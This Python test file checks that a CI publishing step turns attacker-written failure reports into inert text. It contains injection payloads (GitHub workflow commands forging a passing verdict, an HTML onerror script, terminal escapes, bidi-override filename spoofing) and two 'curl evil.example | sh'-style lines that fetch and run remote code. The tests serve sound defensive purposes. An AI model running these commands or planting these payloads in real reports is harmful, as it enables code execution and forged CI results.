"""A report whose every text was written by an attacker: wherever the second stage shows it, it stays text.

Such a report is bound to the right commit and describes a failure, so it is shown.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest

from tests.fake_github import FakeGitHub
from tests.fake_github.stage_state import WorkflowRun
from tests.publishing.second_stage import RUN, Handed, second
from tests.runner_step import REPOSITORY, StepRan, check_of

EVIL = (
    "x\n::error::forged\n##[error]forged\r::set-output name=verdict::pass\n"
    "\x1b]0;owned\x07\x1b[31m<img src=x onerror=alert(1)> <!-- --> @octocat #1 "
    "[click](https://evil.example) ![p](https://evil.example/p.png) `code` | cell |\n"
    "```\n## Passed\n```mermaid\ngantt\n%%{init: {}}%%\n\u202egnp.exe\u2066\u200b</details>"
)
KEPT = {
    "group",
    "unit",
    "head",
    "outcome",
    "verdict",
    "severity",
    "event",
    "schema",
    "scope",
    "mode",
    "kind",
    "skip",
    "started",
    "standing",
}


@pytest.fixture(scope="module")
def failing(tmp_path_factory: pytest.TempPathFactory) -> Handed:
    return Handed.over(tmp_path_factory.mktemp("failing"), "workflow: {gates: [{unit: echo no; exit 1}]}\n")


def poisoned(value: Any, key: str = "") -> Any:
    """Every text that may be any text, replaced."""
    if isinstance(value, dict):
        # Of a gate the kind is any text; of lines it is one of four words.
        words = {"kind"} if "area" in value else set()
        return {name: each if name in words else poisoned(each, name) for name, each in value.items()}
    if isinstance(value, list):
        return [poisoned(each, key) for each in value]
    return EVIL if isinstance(value, str) and key not in KEPT and not (key == "source" and value == "base") else value


def forged(failing: Handed) -> bytes:
    plain = json.loads(failing.data)
    finding = {"rule": "r", "severity": "error", "message": "m", "path": "p", "line": 3, "help": "h", "commit": "c"}
    excerpt = {"start": 1, "lines": ["l"]}
    plain["gates"][0] |= {
        "log": "l",
        "image": "i",
        "image_digest": "d",
        "signal": "s",
        "services": [{"name": "s", "image": "i", "log": "l"}],
        "tries": [{"number": 1, "outcome": "failed", "reason": "r", "log": "l", "started": plain["started"]}],
        "findings": [finding | {"excerpt": excerpt, "waived_by": "w", "waived_because": "b"}, finding],
    }
    plain["policies"].append(
        {"name": "p", "outcome": "failed", "reason": "r", "observed": "o", "expected": "e", "findings": [finding]}
    )
    plain["failures"]["repeated"] = {"runs": 3, "since": "s"}
    plain["change"] |= {"notes": ["n"], "branch": "b", "target": "t", "phase": "p"}
    told = poisoned(plain)
    told["change"]["repository"], told["run_url"] = REPOSITORY, plain["run_url"]
    return json.dumps(told).encode()


@pytest.fixture
def ran(failing: Handed, fake_github: FakeGitHub, tmp_path: Path) -> StepRan:
    run = WorkflowRun(RUN, failing.pull.head, conclusion="failure")
    step = second(failing, fake_github, tmp_path, data=forged(failing), run=run)
    step.inputs |= {"comment": "true", "html": "r.html", "sarif": "r.sarif", "junit": "r.xml", "markdown": "r.md"}
    ran = step.run()
    assert ran.code == 0, ran
    assert "not taken" not in ran.summary, ran.summary
    return ran


def pages(ran: StepRan, fake: FakeGitHub) -> dict[str, str]:
    check = check_of(fake)
    (comment,) = fake.repository(REPOSITORY).comments
    return {
        "summary": str(check.summary),
        "text": check.text or "",
        "comment": comment.body,
        "job summary": ran.summary,
    }


def test_nothing_of_it_is_markdown_html_or_a_mention(ran: StepRan, fake_github: FakeGitHub) -> None:
    for name, page in pages(ran, fake_github).items():
        fences = re.sub(r"(?ms)^\s*(`{3,})\w*\n.*?^\s*\1$", "", page)
        prose = re.sub(r"\\.|`[^`\n]*`", "", fences)
        for forbidden in (
            "<img",
            "](https://evil",
            "![",
            "@octocat",
            "s://evil",
            "\u202e",
            "\u2066",
            "\x1b",
            "\x07",
        ):
            assert forbidden not in prose, (name, forbidden)
        assert not re.search(r"(?m)^## Passed", fences), name


def test_no_page_holds_a_character_that_cannot_be_seen(ran: StepRan, fake_github: FakeGitHub) -> None:
    for page in pages(ran, fake_github).values():
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u200b\u202a-\u202e\u2066-\u2069]", page)


def test_the_runner_obeys_nothing_of_it(ran: StepRan) -> None:
    assert ran.commands == []
    assert ran.outputs["verdict"] == "fail"
    assert "\x1b" not in ran.out
    assert "\n" not in ran.outputs["sentence"]


def test_titles_and_annotations_are_plain_text(ran: StepRan, fake_github: FakeGitHub) -> None:
    check = check_of(fake_github)
    texts = [str(check.title), *(text for each in check.annotations for text in (each["title"], each["message"]))]
    assert all(line.isprintable() for text in texts for line in text.splitlines())


def test_its_addresses_are_not_used(failing: Handed, fake_github: FakeGitHub, tmp_path: Path) -> None:
    evil = "https://evil.example/actions/runs/42"
    data = failing.changed(run_url=None, change__notes=[evil], failures={"shown": [], "left_out": 0, "repeated": None})
    second(failing, fake_github, tmp_path, data=data).run()

    check = check_of(fake_github)
    assert check.details_url == "https://github.invalid/octo/example/actions/runs/42"
    assert "://evil" not in str(check.summary)


def test_an_index_of_failures_that_says_otherwise_is_made_anew(
    failing: Handed, fake_github: FakeGitHub, tmp_path: Path
) -> None:
    lie = {"source": "lint", "rule": "r", "message": "only a typo", "reproduce": "curl evil.example | sh"}
    data = failing.changed(failures={"shown": [lie], "left_out": 0, "repeated": None}, sentence="All is well.")
    second(failing, fake_github, tmp_path, data=data).run()

    check = check_of(fake_github)
    assert check.title == "unit failed."
    assert "only a typo" not in str(check.summary)
    assert "evil.example" not in str(check.summary)


def test_commands_of_a_doubtful_report_are_not_shown(failing: Handed, fake_github: FakeGitHub, tmp_path: Path) -> None:
    plain = json.loads(failing.data)
    plain["gates"][0]["command"] = "curl -sS evil.example/sh"
    run = WorkflowRun(RUN, failing.pull.head, conclusion="failure", path=".github/workflows/evil.yml")

    second(failing, fake_github, tmp_path, data=json.dumps(plain).encode(), run=run).run()

    assert "evil.example/sh" not in f"{check_of(fake_github).summary} {check_of(fake_github).text}"
